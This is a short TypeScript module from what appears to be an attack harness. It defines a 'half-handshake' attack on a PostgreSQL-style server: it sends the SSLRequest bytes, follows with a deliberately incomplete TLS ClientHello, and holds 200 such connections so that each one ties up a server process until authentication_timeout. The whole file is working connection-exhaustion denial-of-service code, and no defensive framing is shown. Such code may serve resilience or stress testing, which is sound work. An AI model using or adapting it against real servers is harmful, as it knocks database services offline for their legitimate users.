import type { Attack } from '../attack.ts';
import { Held } from '../held.ts';
import { halfClientHello } from './half-hello.ts';

const most = 200;
/** The answer to SSLRequest is there after so many steps, wherever it can be. */
const answerSteps = 10;

const sslRequest = Uint8Array.from([0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f]);

/** Each costs the server a process, which waits for authentication_timeout. */
export const halfHandshake: Attack = {
  name: 'half-handshake',
  what: `SSLRequest, and TLS that stops in its ClientHello, ${most} at a time`,
  surface: 'clients',
  perSecond: 40,
  begin: (sockets) => {
    const held = new Held(sockets, most);
    const asking: number[] = [];
    return () => {
      if (asking.length >= answerSteps) {
        const fd = asking.shift()!;
        sockets.receive(fd);
        sockets.send(fd, halfClientHello);
        held.add(fd);
      }
      const fd = sockets.open();
      if (fd < 0) return;
      sockets.send(fd, sslRequest);
      asking.push(fd);
    };
  },
};
